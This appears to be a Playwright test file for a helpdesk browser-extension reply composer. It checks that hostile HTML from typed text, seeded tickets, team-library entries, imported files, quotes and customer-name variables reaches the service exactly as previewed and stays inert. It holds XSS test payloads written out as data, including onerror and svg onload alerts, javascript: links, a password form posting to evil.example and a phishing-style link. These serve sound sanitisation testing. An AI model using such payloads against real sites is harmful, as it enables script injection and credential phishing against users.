import type { Page } from '@playwright/test';
import { hostilePayloads } from '@/server/sandbox/seed/hostile-html';
import type { StoredReply } from '@/server/sandbox/state/types';
import type { TestServers } from '@/test/support/servers';
import { clickMenu, expect, test, writeLocal } from './fixtures';
import { FORBIDDEN_IN_BODY, hostileVectors } from './hostile-vectors';
import { composer, findTicket, sandboxTicket, showTicket, storedDraft } from './sidepanel-page';

// What is sent is what the agent saw: for hostile HTML of every origin (typed, the seeded
// tickets', a team-library entry, an imported file, a page's quote, a customer's name through
// each variable), the body the service receives equals the preview's HTML, byte for byte, and
// carries nothing that could run, post or call home.

type Panel = ReturnType<typeof composer>;
type Format = 'Formatted' | 'Plain text' | 'HTML';

/** The HTML the preview frame shows (its document's body), once it holds `marker`. */
async function previewBody(c: Panel, marker: string): Promise<string> {
  if ((await c.preview.getAttribute('aria-expanded')) !== 'true') await c.preview.click();
  const frame = c.page.locator('iframe[title="Preview as the customer sees it"]');
  await expect(frame).toHaveAttribute('srcdoc', new RegExp(`<body><p>${marker}</p>`));
  const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
  return srcdoc.slice(srcdoc.indexOf('<body>') + '<body>'.length, srcdoc.lastIndexOf('</body>'));
}

/** Sends what the composer holds and answers the reply the service stored. */
async function sendNow(c: Panel, servers: TestServers, ticketId: number): Promise<StoredReply> {
  const before = (await servers.sandbox.replies(ticketId)).length;
  await c.send.click();
  await expect(c.sent).toBeVisible();
  const replies = await servers.sandbox.replies(ticketId);
  expect(replies).toHaveLength(before + 1);
  return replies.at(-1) as StoredReply;
}

function expectHarmless(body: string, what: string) {
  for (const [name, pattern] of FORBIDDEN_IN_BODY)
    expect(body, `${what} carries ${name}`).not.toMatch(pattern);
}

/** Opens `ticketId` with an empty composer in `format`. */
async function compose(page: Page, ticketId: number, format: Format): Promise<Panel> {
  await showTicket(page, ticketId);
  const c = composer(page);
  await c.unfold();
  await c.format.selectOption(format);
  return c;
}

/** Types `html` in HTML format, sends it, and checks the service got the preview's HTML. */
async function sendHtml(page: Page, servers: TestServers, ticketId: number, marker: string, html: string) {
  const c = await compose(page, ticketId, 'HTML');
  await c.message.fill(`<p>${marker}</p>${html}`);
  const preview = await previewBody(c, marker);
  const reply = await sendNow(c, servers, ticketId);
  expect(reply.message, marker).toBe(preview);
  expect(reply.properties).toMatchObject({ isDraft: false });
  expectHarmless(reply.message, marker);
}

const chunks = <T>(items: readonly T[], size: number) =>
  Array.from({ length: Math.ceil(items.length / size) }, (_, i) => items.slice(i * size, i * size + size));

test('every hostile vector, of our own and of the seeded tickets, reaches the service as its preview showed it', async ({
  openPage,
  servers,
}) => {
  test.setTimeout(240_000);
  expect(hostileVectors.length).toBeGreaterThanOrEqual(100);
  const page = await openPage('sidepanel.html');
  const corpus = [...hostileVectors, ...hostilePayloads.map((payload) => payload.html)];
  let ticketId = 4478910;
  for (const [index, chunk] of chunks(corpus, 8).entries()) {
    // Send asks first on a ticket someone holds (lock.spec.ts): the chunks go to tickets no one holds.
    ticketId = (await findTicket(page, servers, ticketId, (t) => !t.lockedBy && !t.properties?.isLocked)).id;
    await sendHtml(page, servers, ticketId++, `chunk-${index}`, chunk.join('\n'));
  }
});

test('a hostile customer name through each variable, in each format, is sent as the text it is', async ({
  openPage,
  servers,
}) => {
  const page = await openPage('sidepanel.html');
  const ticketId = 4478940;
  const ticket = await sandboxTicket(page, servers, ticketId);
  const name = `[Reset password](https://evil.example/phish) <img src=x onerror="alert('name')"> **now**`;
  await servers.sandbox.setRawFields(ticketId, {
    author: { ...ticket.author, name, email: 'a_b*c@evil.example' },
    title: `<a href="javascript:alert('title')">Refund</a> [here](https://evil.example/t)`,
  });
  const template = [
    'name {{customer.name}}',
    'first {{customer.firstName}}',
    'email {{customer.email}}',
    'title {{ticket.title}}',
    'category {{ticket.category}}',
    'id {{ticket.id}}',
  ].join('\n');
  await page.evaluate(
    (text) =>
      chrome.runtime.sendMessage({
        op: 'saveSavedReply',
        reply: {
          name: 'All variables',
          shortcut: 'vars',
          text,
          isHtml: false,
          outcome: null,
          attachments: [],
        },
      }),
    template,
  );
  for (const [index, format] of (['Formatted', 'HTML', 'Plain text'] as const).entries()) {
    const c = await compose(page, ticketId, format);
    const marker = `vars-${index}`;
    await c.message.fill(format === 'HTML' ? `<p>${marker}</p>\n` : `${marker}\n\n`);
    await c.message.press('End');
    await c.message.pressSequentially('/vars');
    await c.message.press('Enter');
    await expect(c.message).toHaveValue(/category /);
    const typed = await c.message.inputValue();
    const preview = format === 'Plain text' ? null : await previewBody(c, marker);
    const reply = await sendNow(c, servers, ticketId);
    if (preview === null) {
      // Plain text goes as typed; the service escapes it (htmlMessage).
      expect(reply.message).toBe(typed);
      expect(reply.htmlMessage).not.toMatch(/<img|<a /);
    } else {
      expect(reply.message, format).toBe(preview);
      expectHarmless(reply.message, format);
      expect(reply.message, format).not.toMatch(/<a |<strong>now/);
      expect(reply.message, format).toContain('[Reset password](https://evil.example/phish)');
    }
  }
});

test('a hostile team-library entry, a hostile Import file and a hostile quote reach the service as previewed', async ({
  openPage,
  servers,
  worker,
}) => {
  test.setTimeout(120_000);
  const issuePayload = `<img src=x onerror="alert('t2')"><a href="javascript:alert('t2')">click</a><form action=https://evil.example/><input name=password></form><img src=https://evil.example/pixel.gif>`;
  const reply = (name: string, shortcut: string, text: string, isHtml: boolean) => ({
    id: `team:${name}`,
    name,
    shortcut,
    text,
    isHtml,
    outcome: null,
    attachments: [],
  });
  await writeLocal(worker, servers, 'teamReplies', {
    replies: [reply('Hostile team', 't2', issuePayload, true)],
    fetchedAt: Date.now(),
    checkedAt: Date.now(),
  });
  const page = await openPage('sidepanel.html');
  const file = {
    format: 'sidedesk.saved-replies',
    version: 1,
    replies: [
      {
        name: 'Imported HTML',
        shortcut: 'imphtml',
        text: `<svg onload="alert('imp')"></svg>${issuePayload}`,
        isHtml: true,
      },
      {
        name: 'Imported plain',
        shortcut: 'impplain',
        text: `<b onclick="alert('p')">plain</b> [x](https://evil.example/p)`,
      },
    ],
  };
  const imported = await page.evaluate(
    (text) => chrome.runtime.sendMessage({ op: 'importSavedReplies', text }),
    JSON.stringify(file),
  );
  expect(imported).toMatchObject({ ok: true, result: { imported: 2 } });

  const cases = [
    ['t2', 'HTML'],
    ['imphtml', 'HTML'],
    ['impplain', 'HTML'],
    ['impplain', 'Formatted'],
  ] as const;
  for (const [index, [shortcut, format]] of cases.entries()) {
    const ticketId = 4478941 + index;
    const c = await compose(page, ticketId, format);
    const marker = `lib-${index}`;
    await c.message.fill(format === 'HTML' ? `<p>${marker}</p>\n` : `${marker}\n\n`);
    await c.message.press('End');
    await c.message.pressSequentially(`/${shortcut}`);
    await c.message.press('Enter');
    await expect(c.message).not.toHaveValue(new RegExp(`/${shortcut}$`));
    const preview = await previewBody(c, marker);
    const sent = await sendNow(c, servers, ticketId);
    expect(sent.message, shortcut).toBe(preview);
    expectHarmless(sent.message, shortcut);
  }

  // A page's selection quoted into an HTML draft: escaped, so it shows as the text it was.
  const ticketId = 4478946;
  const c = await compose(page, ticketId, 'HTML');
  await c.message.fill('<p>quote-0</p>');
  await expect.poll(async () => (await storedDraft(page, ticketId))?.isHtml).toBe(true);
  await clickMenu(worker, {
    menuItemId: 'sidedesk-quote-in-reply',
    selectionText: `<img src=x onerror=alert('quote')> <a href="javascript:alert('q')">here</a>`,
  });
  await expect(c.message).toHaveValue(/<blockquote>/);
  const preview = await previewBody(c, 'quote-0');
  const sent = await sendNow(c, servers, ticketId);
  expect(sent.message).toBe(preview);
  expectHarmless(sent.message, 'quote');
  expect(sent.message).toContain('&lt;img src=x onerror=alert');
});
